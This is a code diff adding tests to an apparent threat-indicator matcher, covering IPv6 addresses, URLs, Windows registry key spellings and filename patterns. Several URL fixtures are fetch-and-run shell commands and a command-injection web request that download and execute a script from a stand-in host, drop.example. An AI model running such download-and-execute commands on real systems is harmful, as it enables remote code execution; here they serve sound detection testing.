@@ -140,6 +140,109 @@ test('trusted indicators are found and say so', () => {
   expect(hashes.matchHash('d41d8cd98f00b204e9800998ecf8427e')).toMatchObject([{ role: 'trusted' }]);
 });
 
+describe('an IPv6 address beside colons, dots and words', () => {
+  const addresses = matcher(['ip', '2001:db8:5::7'], ['ip', '2001:db8:1:2:3:4:5:6'], ['ip', 'fe80::7']);
+  test.each([
+    'closed 2001:db8:5::7: 11: bye',
+    'peer:2001:db8:5::7',
+    'src:2001:DB8:5:0::7,', // the c of src is a hex digit
+    'client [IPv6:2001:db8:5::7]',
+    'IP6 2001:db8:5::7.443 > x', // tcpdump
+    '14:2001:db8:5::7', // grep -n
+    'seen at 2001:db8:5::7.',
+  ])('%s', (text) => {
+    expect(values(addresses.matchText(text))).toEqual(['ip:2001:db8:5::7']);
+    expect(addresses.mayMatchText(text)).toBe(true);
+  });
+  test.each([
+    ['2001:db8:1:2:3:4:5:6:8443', ['ip:2001:db8:1:2:3:4:5:6']],
+    ['on fe80::7%eth0', ['ip:fe80::7']],
+    ['2001:db8:5::70 x2001:db8:5::7 12001:db8:5::7', []],
+    ['2001:db8:5::7f 2001:db8:5::7th', []],
+    ['10:20:30 00:11:22:33:44:55 std::string', []],
+  ])('%s', (text, expected) => {
+    expect(values(addresses.matchText(text))).toEqual(expected);
+  });
+});
+
+describe('a URL in a command, a query or an escape', () => {
+  const urls = matcher(['url', 'http://drop.example./x.sh'], ['domain', 'other.example']);
+  test.each([
+    'cd /tmp;wget http://drop.example/x.sh;chmod +x x.sh',
+    'curl http://drop.example/x.sh&& sh x.sh',
+    'curl http://drop.example/x.sh& disown',
+    'GET /cgi?cd+/tmp;wget+http://drop.example/x.sh;sh HTTP/1.1',
+    'GET /r?u=http://drop.example/x.sh&v=1 HTTP/1.1',
+    'GET /r?u=http%3A%2F%2Fdrop.example%2Fx.sh&v=1 HTTP/1.1',
+    'GET /r?u=http%253A%252F%252Fdrop.example%252Fx.sh HTTP/1.1',
+    '{"url":"http:\\/\\/drop.example\\/x.sh"}',
+    'sh -c "$(curl http://drop.example/x.sh)"',
+    'see http://drop.example./x.sh, http://a.example',
+    'Ahttp://drop.example/x.sh', // the byte before it, in the strings of a program
+  ])('%s', (text) => {
+    expect(values(urls.matchText(text))).toEqual(['url:http://drop.example/x.sh']);
+    expect(urls.mayMatchText(text)).toBe(true);
+  });
+  test('another URL is another URL', () => {
+    expect(urls.matchText('http://drop.example/x.sh2 http://drop.example/x.sh/y http://drop.example/a?x.sh')).toEqual(
+      [],
+    );
+    expect(urls.matchText('100%2Fdrop.example')).toEqual([]);
+  });
+  test('a host in a query that is encoded', () => {
+    expect(values(urls.matchText('/r?u=https%3a%2f%2fwww.other.example%2f'))).toEqual(['domain:other.example']);
+  });
+});
+
+describe('one registry key in the spellings that Windows has for it', () => {
+  const sid = 'S-1-5-21-1-22-333-1001';
+  test.each([
+    ['HKCU\\Software\\Acme', `HKU\\${sid}\\Software\\Acme\\x`],
+    ['HKCU\\Software\\Acme', `HKEY_USERS\\${sid}\\Software\\Acme`],
+    ['HKCU\\Software\\Acme', `\\REGISTRY\\USER\\${sid}\\Software\\Acme`],
+    ['HKCU\\Software\\Acme', 'HKU\\.DEFAULT\\Software\\Acme'],
+    ['HKCU\\Software\\Acme', 'HKCU\\Software\\WOW6432Node\\Acme'],
+    ['HKU\\S-1-5-21-9-9-9-500\\Software\\Acme', 'HKCU\\Software\\Acme'],
+    ['HKLM\\SYSTEM\\CurrentControlSet\\Services\\Acme', 'HKLM\\System\\ControlSet001\\Services\\Acme\\Start'],
+    ['HKLM\\SYSTEM\\ControlSet002\\Services\\Acme', '\\REGISTRY\\MACHINE\\SYSTEM\\CurrentControlSet\\Services\\Acme'],
+    ['HKLM\\SOFTWARE\\Acme', 'HKLM\\SOFTWARE\\WOW6432Node\\Acme'],
+    ['HKLM\\SOFTWARE\\Classes\\CLSID\\{1}', 'HKCR\\CLSID\\{1}\\InprocServer32'],
+    ['HKLM\\SOFTWARE\\Classes\\CLSID\\{1}', `HKU\\${sid}_Classes\\CLSID\\{1}`],
+    ['HKCR\\CLSID\\{1}', 'HKLM\\SOFTWARE\\Classes\\WOW6432Node\\CLSID\\{1}'],
+    ['HKCR\\CLSID\\{1}', 'HKCU\\Software\\Classes\\CLSID\\{1}'],
+    ['HKCC\\Acme', 'HKLM\\SYSTEM\\CurrentControlSet\\Hardware Profiles\\Current\\Acme'],
+    ['Computer\\HKEY_LOCAL_MACHINE\\Acme', 'Registry::HKLM\\Acme'],
+    ['HKLM\\SOFTWARE\\Acme', '{"key":"HKLM\\\\SOFTWARE\\\\Acme\\\\x"}'],
+  ])('%s: %s', (key, text) => {
+    const keys = matcher(['registry-key', key]);
+    expect(keys.matchText(text)).toHaveLength(1);
+    expect(keys.mayMatchText(text)).toBe(true);
+  });
+  test.each([
+    ['HKCU\\Software\\Acme', 'HKLM\\Software\\Acme'],
+    ['HKCU\\Software\\Acme', `HKU\\${sid}\\Software\\Acme2`],
+    ['HKLM\\SYSTEM\\CurrentControlSet\\Services\\Acme', 'HKLM\\System\\Setup\\Services\\Acme'],
+    ['HKLM\\SOFTWARE\\WOW6432Node\\Acme', 'HKLM\\SOFTWARE\\Acme'],
+  ])('not %s: %s', (key, text) => {
+    expect(matcher(['registry-key', key]).matchText(text)).toEqual([]);
+  });
+});
+
+test('a name without a folder fits an expression that wants a separator in front', () => {
+  const names = matcher(
+    ['filename', '[\\\\/]drop\\.exe$'],
+    ['filename', '\\\\side\\.dll$'],
+    ['filename', '(?i)(?:/one|\\\\two)\\.sh$'],
+    ['filename', '^/etc/three$'],
+  );
+  expect(values(names.matchPath('drop.exe'))).toHaveLength(1);
+  expect(values(names.matchPath('side.dll'))).toHaveLength(1);
+  expect(values(names.matchPath('TWO.SH'))).toHaveLength(1);
+  expect(values(names.matchPath('/etc/three'))).toHaveLength(1);
+  for (const path of ['xdrop.exe', 'drop.exe/x', 'a/xside.dll', 'three', 'a b drop.exe'])
+    expect(names.matchPath(path), path).toEqual([]);
+});
+
 test('hostile text takes no more than linear time', () => {
   const all = matcher(
     ['domain', 'evil.com'],
@@ -158,6 +261,10 @@ test('hostile text takes no more than linear time', () => {
     '\\pipe\\'.repeat(50_000),
     'a@'.repeat(150_000),
     'http://'.repeat(40_000),
+    `http://e.com/${';'.repeat(300_000)}`,
+    '%2F'.repeat(100_000),
+    ':'.repeat(300_000),
+    '\\\\'.repeat(100_000),
   ])
     all.matchText(text);
   expect(performance.now() - start).toBeLessThan(10_000);
